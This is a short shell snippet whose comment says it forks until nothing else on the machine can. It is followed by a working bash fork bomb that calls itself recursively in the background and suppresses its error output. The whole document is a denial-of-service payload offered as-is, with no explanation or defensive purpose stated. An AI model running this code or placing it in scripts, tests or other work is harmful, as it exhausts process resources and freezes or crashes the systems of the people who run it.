# Forks until nothing else on the machine can.
bomb() { bomb | bomb & }; bomb 2> /dev/null; sleep 2
